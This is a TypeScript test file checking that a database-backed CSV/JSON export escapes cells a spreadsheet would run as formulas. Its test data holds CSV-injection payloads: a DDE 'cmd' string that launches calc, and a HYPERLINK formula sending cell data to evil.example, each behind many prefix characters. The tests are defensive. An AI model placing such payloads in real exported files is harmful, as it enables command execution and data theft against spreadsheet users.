import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { db, type Opened } from '#db/client.ts';
import { testDatabase } from '#db/testing.ts';
import { csvCell, jsonCell } from './cells.ts';

let opened: Opened;
beforeAll(async () => {
  opened = await testDatabase();
});
afterAll(() => opened?.close());

type Kind = Parameters<typeof csvCell>[0]['kind'];

/** What the database makes of a value: as CSV, and as JSON. */
async function made(value: ReturnType<typeof sql>, kind: Kind = 'typed') {
  const column = { heading: '', kind, value };
  const cells = sql<(string | null)[]>`array[(${csvCell(column)})::text, ${jsonCell(column)}]`;
  const { rows } = (await db().execute(sql`select ${cells} as cells`)) as unknown as {
    rows: { cells: (string | null)[] }[];
  };
  return rows[0]?.cells ?? [];
}
const typed = (text: string) => made(sql`${text}::text`);

const starts = [
  ...['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u00a0=', '\ufeff=', '\u200b='],
  ...['\t=', '\r\n=', '  +', '\u0001=', '\t@', '\u3000＝', '\u202e=', '\u2060\u200d-', '\u00ad+', '\u007f='],
];
const ends = ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"open")'];

describe('a cell that a spreadsheet would run', () => {
  test.each(starts.flatMap((start) => ends.map((end) => start + end)))('%j is made text', async (text) => {
    const [csv, json] = await typed(text);
    expect(csv).toBe(`"'${text.replaceAll('"', '""')}"`);
    expect(JSON.parse(json ?? '')).toBe(text);
  });

  test.each([
    'a=1',
    '1-1',
    'x@y',
    'INC-1',
    '2026-03-01',
    "'quoted",
    '#1',
    ' a',
    'é',
    '日本',
    '',
    '\\',
    '\u200bx',
  ])('%j is none and stays as it is', async (text) => {
    expect(await typed(text)).toEqual([`"${text}"`, JSON.stringify(text)]);
  });
});

test('nothing is an empty cell and null, a moment is UTC to the millisecond, a number a number', async () => {
  for (const kind of ['typed', 'word', 'moment', 'number'] as const) {
    const nothing = { typed: 'text', word: 'text', moment: 'timestamptz', number: 'numeric' }[kind];
    expect(await made(sql.raw(`null::${nothing}`), kind)).toEqual([null, 'null']);
  }
  const at = await made(sql`timestamptz '2026-03-01T10:00:00.05+02:00'`, 'moment');
  expect(at).toEqual(['2026-03-01T08:00:00.050Z', '"2026-03-01T08:00:00.050Z"']);
  expect(await made(sql`-5`, 'number')).toEqual(['-5', '-5']);
});
